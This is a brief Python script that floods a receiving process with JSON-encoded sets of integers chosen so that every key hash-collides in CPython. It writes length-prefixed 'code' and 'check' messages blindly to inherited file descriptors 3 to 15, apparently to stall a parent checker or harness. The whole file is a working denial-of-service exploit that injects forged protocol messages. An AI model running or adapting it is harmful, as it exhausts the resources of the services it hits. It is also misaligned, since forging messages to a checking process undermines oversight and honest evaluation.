"""Sends values whose keys all collide, many times over: whoever rebuilds them is busy for long."""

import json
import os
import struct

keys = [(2**61 - 1) * i for i in range(19000)]
value = ["l", [["s", keys] for _ in range(8)]]
for fd in range(3, 16):
    try:
        for message in ({"k": "code"}, {"k": "check", "i": 0, "v": [value]}, {"k": "check", "i": 1, "v": [value]}):
            data = json.dumps(message).encode()
            view = memoryview(struct.pack(">I", len(data)) + data)
            while view:
                view = view[os.write(fd, view) :]
    except OSError:
        continue
